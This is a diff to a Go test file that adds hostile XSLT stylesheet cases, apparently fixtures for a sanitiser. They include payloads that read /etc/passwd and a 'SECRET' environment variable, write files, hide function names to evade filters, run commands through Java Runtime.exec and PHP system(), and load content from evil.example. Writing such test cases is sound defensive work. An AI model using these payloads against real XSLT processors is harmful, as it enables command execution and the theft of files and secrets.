@@ -96,6 +96,20 @@ func hostileStylesheets() []recipe {
 		text(xsltImport, "document-prefixed",
 			sheet(`<xsl:variable name="x" select="fn:doc('x')" xmlns:fn="http://www.w3.org/2005/xpath-functions"/>`)),
 		text(xsltImport, "unparsed-text", sheet(`<xsl:value-of select="unparsed-text('/etc/passwd')"/>`)),
+		text(xsltImport, "function-by-computed-name", sheet(`<xsl:variable name="x" `+
+			`select="function-lookup(xs:QName(concat('fn:d', 'oc')), 1)('x')"/>`)),
+		text(xsltImport, "computed-expression", sheet(`<xsl:evaluate xpath="concat('do', 'c(&quot;x&quot;)')"/>`)),
+		text(xsltImport, "computed-expression-of-exslt",
+			sheet(`<xsl:value-of select="d:evaluate($x)" xmlns:d="http://exslt.org/dynamic"/>`)),
+		text(xsltImport, "environment", sheet(`<xsl:value-of select="environment-variable('SECRET')"/>`)),
+		text(xsltImport, "file-module", sheet(`<xsl:value-of select="f:write-text('/tmp/x', 'y')"/>`)),
+		text(xsltImport, "package", sheet(`<xsl:use-package name="http://evil.example/p"/>`)),
+		text(active, "class-of-java", sheet(`<p xmlns:r="xalan://java.lang.Runtime"><xsl:value-of `+
+			`select="r:exec(r:getRuntime(), 'x')"/></p>`)),
+		text(active, "class-of-java-in-xalan", `<xsl:stylesheet version="1.0"`+nsXSL+
+			` xmlns:r="http://xml.apache.org/xalan/java/java.lang.Runtime"/>`),
+		text(active, "function-of-php", `<p xsl:version="1.0"`+nsXSL+` xmlns:php="http://php.net/xsl" `+
+			`title="{php:function('system', 'x')}"/>`),
 		text(xsltImport, "template-in-attribute",
 			`<html title="{document('http://evil.example/')}" xsl:version="1.0"`+nsXSL+`/>`),
 		text(xsltImport, "template-in-text", sheet(`<p xsl:expand-text="yes">{unparsed-text('/etc/passwd')}</p>`)),
